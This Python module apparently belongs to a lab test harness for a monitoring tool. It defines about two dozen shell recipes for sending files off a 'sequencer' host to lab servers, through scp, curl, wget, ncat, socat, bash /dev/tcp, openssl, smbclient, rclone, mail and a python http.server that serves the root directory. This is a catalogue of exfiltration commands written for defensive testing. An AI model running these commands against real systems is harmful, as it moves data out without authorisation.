"""The ways by which a file can leave, each by a real program, against the lab's servers."""

import shlex
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from strandwatch.lab import traffic
from strandwatch.lab.network import SEQUENCER
from strandwatch.lab.servers import SshServer

DRAIN_PORT = 9000
DRAIN_TLS_PORT = 9443
SERVED_PORT = 8000


@dataclass(frozen=True, slots=True)
class Target:
    """A host of the lab as the tools need to know it, and a directory for what they leave."""

    address: str
    ssh: SshServer
    certificate: Path
    work: Path


@dataclass(frozen=True, slots=True)
class Tool:
    """One way out: the programs it takes, and lines of shell for each file, in `$F`.

    `begin` and `end` stand before and after all files. With `pull`, the far host runs that line for
    each file, between the two.
    """

    name: str
    programs: tuple[str, ...]
    senders: tuple[str, ...]
    """Executables one of which the bytes must be attributed to."""
    each: str = ""
    begin: str = ""
    end: str = ""
    pull: str = ""
    method: str = "socket"


_SSH_PROGRAMS = ("ssh", "sshd", "ssh-keygen")
_S3 = (
    "export AWS_ACCESS_KEY_ID=lab AWS_SECRET_ACCESS_KEY=laboratory AWS_DEFAULT_REGION=us-east-1; "
    "export AWS_EC2_METADATA_DISABLED=true AWS_CONFIG_FILE=/dev/null RCLONE_CONFIG=/dev/null; "
)
_URLLIB = (
    "import os, sys, urllib.request as u; f = open(sys.argv[1], 'rb'); "
    "u.urlopen(u.Request(sys.argv[2], data=f, method='PUT', "
    "headers={'Content-Length': str(os.fstat(f.fileno()).st_size)})).read()"
)

TOOLS = (
    Tool("scp", ("scp", *_SSH_PROGRAMS), ("ssh",), 'scp -q $SSH "$F" "$THERE:$UPLOADS/"'),
    Tool(
        "sftp",
        ("sftp", *_SSH_PROGRAMS),
        ("ssh",),
        'echo "put \\"$F\\" $UPLOADS/" | sftp -q $SSH -b - "$THERE"',
    ),
    Tool(
        "rsync",
        ("rsync", *_SSH_PROGRAMS),
        ("ssh",),
        'rsync -a --whole-file -e "ssh $SSH" "$F" "$THERE:$UPLOADS/"',
    ),
    Tool(
        "ssh pipe",
        ("ssh", *_SSH_PROGRAMS),
        ("ssh",),
        'cat "$F" | ssh $SSH "$THERE" "cat > /dev/null"',
    ),
    Tool(
        "ssh master",
        ("scp", *_SSH_PROGRAMS),
        ("ssh",),
        'scp -q $SSH -o ControlPath="$WORK/master" "$F" "$THERE:$UPLOADS/"',
        begin='ssh $SSH -o ControlMaster=yes -o ControlPath="$WORK/master" -N -f "$THERE"',
        end='ssh $SSH -o ControlPath="$WORK/master" -O exit "$THERE" 2> /dev/null',
    ),
    Tool("curl put", ("curl",), ("curl",), 'curl -sSf -T "$F" "http://$A/"'),
    Tool("curl post", ("curl",), ("curl",), 'curl -sSf --data-binary "@$F" "http://$A/x"'),
    Tool(
        "curl https",
        ("curl",),
        ("curl",),
        'curl -sSf --cacert "$CERTIFICATE" -T "$F" "https://$A/"',
    ),
    Tool("curl ftp", ("curl", "vsftpd"), ("curl",), 'curl -sSf -T "$F" "ftp://$A/uploads/"'),
    Tool("wget", ("wget",), ("wget",), 'wget -q -O /dev/null --post-file="$F" "http://$A/x"'),
    Tool(
        "python urllib",
        ("python3",),
        ("python3", "python3.11", "python"),
        f'/usr/bin/python3 -c "{_URLLIB}" "$F" "http://$A/x"',
    ),
    Tool(
        "aws s3",
        ("aws",),
        ("aws", "python3", "python3.11"),
        '/usr/bin/aws --endpoint-url "http://$A" s3 cp --quiet "$F" s3://bucket/',
        begin=_S3,
    ),
    Tool(
        "rclone",
        ("rclone",),
        ("rclone",),
        'rclone copyto --s3-provider Other --s3-endpoint "http://$A" --s3-env-auth '
        "--s3-no-check-bucket --s3-no-head --ignore-checksum --ignore-times --retries 1 -q "
        '"$F" ":s3:bucket/$(basename "$F")"',
        begin=_S3,
    ),
    Tool(
        "lftp", ("lftp", "vsftpd"), ("lftp",), 'lftp -e "put -O uploads \\"$F\\"; bye" "ftp://$A"'
    ),
    Tool("ncat", ("ncat",), ("ncat",), 'ncat --send-only "$A" $PLAIN < "$F"'),
    Tool("cat to ncat", ("ncat",), ("ncat",), 'cat "$F" | ncat --send-only "$A" $PLAIN'),
    Tool("socat", ("socat",), ("socat", "socat1"), 'socat -u "OPEN:$F" "TCP:$A:$PLAIN"'),
    Tool(
        "openssl",
        ("openssl",),
        ("openssl",),
        'openssl s_client -quiet -nocommands -no_ign_eof -connect "$A:$TLS" < "$F" > /dev/null',
    ),
    Tool("bash", ("bash",), ("bash", "cat"), 'cat "$F" > "/dev/tcp/$A/$PLAIN"'),
    Tool(
        "smbclient",
        ("smbclient", "smbd"),
        ("smbclient",),
        'smbclient -N "//$A/uploads" -c "put \\"$F\\" \\"$(basename "$F")\\"" > /dev/null 2>&1',
    ),
    Tool(
        "sshfs",
        ("sshfs", *_SSH_PROGRAMS),
        ("ssh", "sshfs"),
        'cp "$F" "$WORK/mount/"',
        begin='mkdir "$WORK/mount"; sshfs $(echo "$SSH" | sed "s/-i /-o IdentityFile=/") '
        '"$THERE:$UPLOADS" "$WORK/mount"',
        end='fusermount3 -u "$WORK/mount"',
        method="mount",
    ),
    Tool(
        "http.server",
        ("python3", "curl"),
        ("python3", "python3.11", "python"),
        begin="/usr/bin/python3 -m http.server $SERVED --directory / > /dev/null 2>&1 & SERVER=$!",
        pull='curl -sSf --retry 20 --retry-connrefused --retry-delay 1 -o /dev/null "http://$S:$SERVED$F"',
        end="kill $SERVER; wait",
        method="served",
    ),
    Tool(
        "mail",
        ("msmtp", "base64"),
        ("msmtp",),
        '(printf "Subject: results\\n\\n"; base64 "$F") | '
        'msmtp -C /dev/null --host="$A" --port=25 --from=a@lab.test b@lab.test',
    ),
)


def send_command(tool: Tool, target: Target, paths: Sequence[Path]) -> tuple[str, ...]:
    """Give the command that sends these files from the sequencer by a tool.

    For a tool that serves, the command serves until its standard input ends.
    """
    body = "read -r _ || true" if tool.pull else tool.each
    files = " ".join(shlex.quote(str(path)) for path in paths[: 1 if tool.pull else None])
    script = f"{_variables(target)}{tool.begin or ':'}\n"
    script += f"finish() {{ :; {tool.end}\n}}\ntrap finish EXIT\n"
    script += f"set -e\nfor F in {files}; do\n{body}\ndone\n"
    return ("bash", "-o", "pipefail", "-c", script)


def pull_command(tool: Tool, target: Target, paths: Sequence[Path]) -> tuple[str, ...]:
    """Give the command by which the far host fetches these files from a tool that serves."""
    files = " ".join(shlex.quote(str(path)) for path in paths)
    return ("bash", "-c", f"{_variables(target)}set -e\nfor F in {files}; do\n{tool.pull}\ndone\n")


def _variables(target: Target) -> str:
    variables: dict[str, object] = {
        "A": target.address,
        "S": SEQUENCER.address,
        "CERTIFICATE": target.certificate,
        "WORK": target.work,
        "PLAIN": DRAIN_PORT,
        "TLS": DRAIN_TLS_PORT,
        "SERVED": SERVED_PORT,
        "THERE": f"{target.ssh.user}@{target.address}",
        "UPLOADS": target.ssh.directory,
        "SSH": " ".join(map(shlex.quote, traffic.ssh_options(target.ssh))),
    }
    return "".join(f"{name}={shlex.quote(str(value))}\n" for name, value in variables.items())
